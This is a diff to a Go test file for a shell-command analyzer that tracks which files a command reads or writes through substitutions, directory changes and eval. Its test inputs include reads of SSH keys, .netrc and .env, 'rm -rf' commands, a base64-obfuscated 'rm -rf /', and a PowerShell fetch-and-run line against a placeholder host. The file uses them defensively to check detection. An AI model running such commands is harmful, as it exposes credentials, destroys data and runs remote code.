@@ -86,10 +86,24 @@ func TestExpansion(t *testing.T) {
 		// directories
 		{cmd: `cd ~/.ssh && cat "$(pwd)/id_rsa"`, reads: []string{"~/.ssh/id_rsa"}},
 		{cmd: `cd .. && cat "$PWD/.ssh/id_rsa"`, reads: []string{"../.ssh/id_rsa"}},
+		{cmd: "rm -rf `pwd`/x", writes: []string{"./x"}, lines: []string{"rm -rf $PWD/x"}},
+		{cmd: `cd sub && rm -rf "$(pwd)"`, writes: []string{"sub"}, lines: []string{"rm -rf $PWD/sub"}},
 		{cmd: `pushd ~/.ssh; pushd /tmp; cat ~1/id_rsa ~+0/a ~-0/b`, reads: []string{"~/.ssh/id_rsa", "/tmp/a", "./b"}},
 		{cmd: `pushd ~/.ssh; pushd /tmp; popd; cat id_rsa`, reads: []string{"~/.ssh/id_rsa"}},
 		{cmd: `pushd /a; pushd /b; pushd +2; cat x.txt`, reads: []string{"x.txt"}},
 		{cmd: `cd /tmp; cd ~-; cat .env`, reads: []string{"./.env"}},
+		// what a substitution prints, followed command by command
+		{cmd: `cat "$(cd ~/.ssh && pwd)/id_rsa"`, reads: []string{"~/.ssh/id_rsa"}},
+		{cmd: `cat "$(dirname ~/.ssh/config)/id_rsa"`, reads: []string{"~/.ssh/id_rsa"}},
+		{cmd: `cd ~; cat "$(basename /x/.netrc)"`, reads: []string{"~/.netrc"}},
+		{cmd: "x=$(cat <<EOF\n~/.netrc\nEOF\n); cat $x", reads: []string{"~/.netrc"}},
+		{cmd: `cat $(echo "$(cat f)/.ssh/id_rsa")`, unresolved: []UnresolvedPath{u(Unknown+"/.ssh/id_rsa", false)}},
+		{cmd: `cat "$(echo ~; echo /x)"`, lines: []string{"cat ~; /x"}},
+		{cmd: `cat "$(if a; then echo /x; fi)/y"`, unresolved: []UnresolvedPath{u(Unknown+"/y", false)}},
+		{cmd: `cat "$(dirname "$(cat f)")/.netrc"`, unresolved: []UnresolvedPath{u(Unknown+"/.netrc", false)}},
+		{cmd: `cat "$(basename ~)"`, notLines: []string{"cat ~"}},
+		{cmd: `cat "$(cd -)/x"`, unresolved: []UnresolvedPath{u(Unknown+"/x", false)}},
+		{cmd: `eval "$(base64 -d <<< cm0gLXJmIC8=)"`, lines: []string{"rm -rf /"}},
 		// declarations
 		{cmd: `f(){ local x=~/.bashrc; echo hi > "$x"; }; f`, writes: []string{"~/.bashrc"}},
 		{cmd: `export E=~/.bashrc; echo x >> $E`, writes: []string{"~/.bashrc"}},
@@ -178,6 +192,10 @@ func TestZshParse(t *testing.T) {
 	}
 	if a := analyze(`echo ${(f)x}`, Options{}); a.Err == nil {
 		t.Error("bash takes ${(f)x}")
+	}
+	// mvdan's zsh parser reads (a b) as one word; zsh does not.
+	if a := analyze(`IEX (IWR https://x.example/p.ps1)`, Options{Zsh: true}); a.Err == nil {
+		t.Error("a word with a blank, parsed by zsh's parser alone, is no parse error")
 	}
 }
 
